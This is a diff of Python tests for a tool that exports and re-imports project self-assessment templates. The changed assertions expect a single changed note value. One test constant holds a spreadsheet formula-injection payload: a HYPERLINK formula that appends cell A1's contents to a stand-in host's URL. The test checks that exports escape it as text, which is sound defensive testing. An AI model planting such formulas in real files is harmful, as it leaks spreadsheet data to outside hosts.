@@ -59,7 +59,7 @@ def test_the_projects_own_files_are_read_whatever_the_size_of_a_field(project_co
     assert project.ok, [p.format() for p in project.problems]
     assert [f.note for f in project.facts if f.period == "2023-06"][0] == note
     update = updates.read_update("ok-utf8.csv", (CORPUS / "ok-utf8.csv").read_bytes(), project_copy)
-    assert update.ok and update.counts()["changed"] == 0
+    assert update.ok and [(c.column, c.old, c.new) for c in update.changes if c.kind == "changed"] == [("note", note, "上半年")]
 
 
 INJECTED = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
@@ -83,7 +83,7 @@ def test_a_formula_typed_as_a_note_comes_back_in_the_templates_as_text_and_uploa
     assert "'" + INJECTED.replace('"', '""') in text and f",{INJECTED[:10]}" not in text.replace('"', "")
     for name, data in (("自评模板.xlsx", workbook), ("自评模板.csv", text.encode("utf-8"))):
         update = updates.read_update(name, data, project_copy, project)
-        assert update.ok and update.counts()["changed"] == 0, [p.format() for p in update.problems]
+        assert update.ok and [(c.column, c.old, c.new) for c in update.changes if c.kind == "changed"] == [("note", note, "上半年")], [p.format() for p in update.problems]
         assert next(e.note for e in update.entries if e.point == "P01") == INJECTED
 
 
